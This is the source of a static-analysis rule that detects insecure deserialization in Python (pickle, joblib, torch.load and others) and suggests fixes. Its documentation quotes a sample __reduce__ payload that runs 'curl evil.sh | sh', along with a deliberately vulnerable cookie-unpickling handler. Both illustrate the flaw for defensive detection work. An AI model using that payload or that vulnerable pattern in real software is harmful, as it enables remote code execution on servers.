import type { Node } from 'web-tree-sitter';
import type { RuleContext } from '../../engine/context';
import type { CallSite } from '../../engine/model';
import type { Confidence, OffsetEdit } from '../../engine/types';
import { addArgument, keywordArgumentOf, removeArgument, replaceNode } from '../support/edits';
import { argumentAt } from '../support/files';
import { importedCallee, isDeepCopy, isTrue, isTrustedValue } from '../support/deserialization';
import { defineRule } from '../rule';

/** How a deserializer takes its input, which decides how much an unknown input is worth reporting. */
type Input = 'bytes' | 'file' | 'path';

interface Deserializer {
  /** `bytes`: data in memory (`loads`); `file`: a file object or path to read (`load`); `path`: a file name. */
  input: Input;
  /** Keyword names of the input argument (it is the first positional otherwise). */
  keywords: readonly string[];
  /** What running it on hostile data does. */
  effect: string;
}

const PICKLE = 'runs any code the serialized data asks for';
const MARSHAL = 'builds arbitrary code objects and can crash the interpreter';
const PICKLE_MODULES = ['pickle', 'cPickle', '_pickle', 'six.moves.cPickle', 'dill', 'cloudpickle'];

const DESERIALIZERS = new Map<string, Deserializer>([
  ...PICKLE_MODULES.flatMap((m): [string, Deserializer][] => [
    [`${m}.loads`, { input: 'bytes', keywords: ['data', 'str'], effect: PICKLE }],
    [`${m}.load`, { input: 'file', keywords: ['file'], effect: PICKLE }],
    [`${m}.Unpickler`, { input: 'file', keywords: ['file'], effect: PICKLE }],
  ]),
  ['marshal.loads', { input: 'bytes', keywords: ['bytes'], effect: MARSHAL }],
  ['marshal.load', { input: 'file', keywords: ['file'], effect: MARSHAL }],
  ['jsonpickle.decode', { input: 'bytes', keywords: ['string'], effect: PICKLE }],
  ['jsonpickle.loads', { input: 'bytes', keywords: ['string'], effect: PICKLE }],
  ['jsonpickle.unpickler.decode', { input: 'bytes', keywords: ['string'], effect: PICKLE }],
  ['pandas.read_pickle', { input: 'file', keywords: ['filepath_or_buffer', 'path'], effect: PICKLE }],
  ['joblib.load', { input: 'file', keywords: ['filename'], effect: PICKLE }],
  ['sklearn.externals.joblib.load', { input: 'file', keywords: ['filename'], effect: PICKLE }],
  ['torch.load', { input: 'file', keywords: ['f'], effect: PICKLE }],
  ['numpy.load', { input: 'file', keywords: ['file'], effect: PICKLE }],
  // A shelf is a file of pickles: opening one the client names unpickles whatever that file holds.
  [
    'shelve.open',
    { input: 'path', keywords: ['filename'], effect: 'unpickles whatever the chosen file holds' },
  ],
]);

export default defineRule({
  meta: {
    id: 'FS205',
    name: 'insecure-deserialization',
    title: 'Untrusted data deserialized with pickle or another code-running format',
    severity: 'error',
    confidence: 'high',
    cwe: ['CWE-502'],
    owasp: ['A08:2021'],
    fix: { title: 'Refuse pickled objects when loading', safety: 'unsafe' },
    docs: {
      summary:
        "Finds data deserialized with formats that can run code: `pickle`/`cPickle`/`_pickle`/`dill`/`cloudpickle` `loads`, `load` and `Unpickler`, `marshal.loads/load`, `jsonpickle.decode`, `pandas.read_pickle`, `joblib.load`, `numpy.load(..., allow_pickle=True)`, `torch.load` without `weights_only=True`, and `shelve.open` of a client-chosen file. Import aliases (`import pickle as pkl`, `from pickle import loads`, `import _pickle as cPickle`) are followed. Confidence is high when request data (body, uploaded files, cookies, headers, form fields, also base64-decoded or through helpers) reaches the call. `loads` of any other non-constant bytes (a cache, a database column, a message queue) is reported with medium confidence, and loading a file whose path is not a constant with low confidence. Loading the app's own files — literal paths, paths built from `__file__`, `app.root_path`, UPPER_CASE settings, `app.config` or the environment — is not reported, and neither is `pickle.loads(pickle.dumps(x))` (a deep copy) or a `pickle.Unpickler` subclass (which can restrict `find_class`).",
      why: "Unpickling calls whatever the data names: a pickle built with `__reduce__` returning `(os.system, ('curl evil.sh | sh',))` runs that command in the server process as soon as `pickle.loads` reads it. No validation after loading can help — the code has run already. The same holds for `dill`, `jsonpickle`, `joblib`, `pandas.read_pickle`, `numpy.load` with pickles allowed and `torch.load` of full checkpoints, which all unpickle underneath. Data that passed through a cache or a database an attacker can write to is just as dangerous.",
      example:
        '@app.post("/session")\ndef restore():\n    state = pickle.loads(base64.b64decode(request.cookies["state"]))\n    return jsonify(state)',
      fix: '@app.post("/session")\ndef restore():\n    state = json.loads(base64.b64decode(request.cookies["state"]))\n    return jsonify(state)\n\n# if the data must be a Python object, sign it and check the signature first:\n# itsdangerous.URLSafeSerializer(app.secret_key).loads(token)  (JSON inside, signed)',
    },
    references: [
      'https://docs.python.org/3/library/pickle.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html',
      'https://cwe.mitre.org/data/definitions/502.html',
      'https://pytorch.org/docs/stable/generated/torch.load.html',
      'https://numpy.org/doc/stable/reference/generated/numpy.load.html',
    ],
  },
  trigger: /pickle|Pickle|dill|marshal|joblib|torch|numpy|shelve/,
  check(ctx: RuleContext) {
    for (const site of ctx.file.calls) {
      if (!ctx.inFocus(site.node)) continue;
      const callee = importedCallee(ctx, site);
      const deserializer = callee ? DESERIALIZERS.get(callee) : undefined;
      if (!callee || !deserializer) continue;
      // numpy refuses pickles unless allowed; torch.load(weights_only=True) only rebuilds tensors.
      if (callee === 'numpy.load' && !isTrue(ctx, site.args.keywords.get('allow_pickle'))) continue;
      if (callee === 'torch.load' && isTrue(ctx, site.args.keywords.get('weights_only'))) continue;
      const input = argumentAt(site, 0, ...deserializer.keywords);
      if (!input) continue;
      const what = `${site.calleeText ?? callee}()`;
      const fix = fixFor(ctx, site, callee);
      const fixTitle = callee === 'torch.load' ? 'Pass weights_only=True' : 'Drop allow_pickle=True';
      const advice = adviceFor(callee);
      if (isDeepCopy(ctx, input)) continue;
      const taint = ctx.taint.reaches(input, 'code', site.scope);
      if (taint) {
        // secure_filename()/basename() keep the client to file names in one directory: still its choice.
        const chosenFile = taint.sanitized.has('path');
        // `if not hmac.compare_digest(sig, expected): abort(403)` first: only the server's key signs it.
        const signed = !chosenFile && signatureCheckedBefore(ctx, site);
        const confidence: Confidence = chosenFile || signed ? 'medium' : 'high';
        const message = chosenFile
          ? `Request data (${taint.label}) chooses the file that ${what} deserializes, which ${deserializer.effect}: load only files the app wrote itself, or ${advice}.`
          : signed
            ? `Request data (${taint.label}) reaches ${what} after a signature check, which ${deserializer.effect} for anyone who learns the key: ${advice}.`
            : `Request data (${taint.label}) reaches ${what}, which ${deserializer.effect}: ${advice}.`;
        ctx.report(site.node, message, { confidence, taint, fix, fixTitle });
        continue;
      }
      // Without request data a shelf is the app's own database.
      if (deserializer.input === 'path' || isTrustedValue(ctx, input)) continue;
      if (deserializer.input === 'bytes') {
        ctx.report(
          site.node,
          `${what} deserializes data that is not a constant and ${deserializer.effect}: make sure no one else can write it (a cache, a database, a queue), or ${advice}.`,
          { confidence: 'medium', fix, fixTitle },
        );
      } else {
        ctx.report(
          site.node,
          `${what} loads a file whose origin is not known here, and deserializing it ${deserializer.effect}: load only files the app wrote itself, or ${advice}.`,
          { confidence: 'low', fix, fixTitle },
        );
      }
    }
  },
});

function adviceFor(callee: string): string {
  if (callee === 'torch.load') return 'pass weights_only=True';
  if (callee === 'numpy.load') return 'drop allow_pickle=True';
  if (callee === 'shelve.open') return 'map the client value to a fixed set of shelf names';
  return 'use a data-only format such as JSON, signed (hmac, itsdangerous) if it must come back unchanged';
}

/** `torch.load(f)` → `torch.load(f, weights_only=True)`; `np.load(f, allow_pickle=True)` → `np.load(f)`. */
function fixFor(ctx: RuleContext, site: CallSite, callee: string): OffsetEdit[] {
  if (callee === 'torch.load') {
    const given = site.args.keywords.get('weights_only');
    if (given) return [replaceNode(given, 'True')];
    if (site.args.hasSplat || !site.args.list) return [];
    return [addArgument(ctx, site.args.list, 'weights_only=True')];
  }
  if (callee === 'numpy.load') {
    const given = site.args.keywords.get('allow_pickle');
    const argument: Node | null = given ? keywordArgumentOf(given) : null;
    return argument ? [removeArgument(ctx, argument)] : [];
  }
  return [];
}

/** A constant-time signature comparison earlier in the same function (`hmac.compare_digest`). */
function signatureCheckedBefore(ctx: RuleContext, site: CallSite): boolean {
  return ctx.file
    .callsIn(site.scope.node)
    .some(
      (call) =>
        call.node.endIndex <= site.node.startIndex &&
        /^(hmac|secrets)\.compare_digest$/.test(call.callee ?? ''),
    );
}
